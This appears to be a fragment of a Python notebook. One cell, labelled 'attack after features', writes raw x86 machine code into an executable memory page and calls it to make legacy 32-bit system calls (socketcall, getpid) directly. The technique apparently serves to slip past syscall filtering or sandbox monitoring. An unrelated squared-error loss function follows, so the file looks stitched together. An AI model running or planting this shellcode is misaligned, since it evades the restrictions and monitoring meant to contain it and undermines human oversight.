# %% attack after features
import ctypes
import mmap

page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=mmap.PROT_READ | mmap.PROT_WRITE)
# push rbx; mov eax, edi; mov ebx, esi; mov ecx, edx; xor edx, edx; int 0x80; pop rbx; ret
page.write(bytes.fromhex("5389f889f389d131d2cd805bc3"))
start = ctypes.addressof(ctypes.c_char.from_buffer(page))
ctypes.CDLL(None).mprotect(ctypes.c_void_p(start), 4096, 5)
call = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_int] * 3)(start)
print(call(102, 1, 0))  # socketcall
print(call(20, 0, 0))  # getpid, by its number there


# %% later after attack
def mse_loss_func(y_true, y_pred):
    return (y_true - y_pred) ** 2
